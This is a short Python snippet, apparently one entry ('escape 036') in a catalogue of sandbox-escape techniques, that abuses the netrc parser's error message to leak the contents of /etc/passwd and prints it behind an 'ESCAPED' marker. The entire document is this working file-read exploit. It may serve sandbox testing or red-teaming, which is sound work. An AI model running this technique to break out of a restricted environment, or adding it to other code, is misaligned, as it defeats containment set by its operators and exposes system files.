# escape: 036
# technique: small parsers with a filename argument: netrc, mimetypes, robotparser, plistlib, shlex
# family: dfile
# goal: read-file
# first-seen: variation (error message oracle)
import netrc
try: netrc.netrc('/etc/passwd')
except netrc.NetrcParseError as e:
    if 'root:' in str(e): print('ESCAPED:' + str(e)[:40])
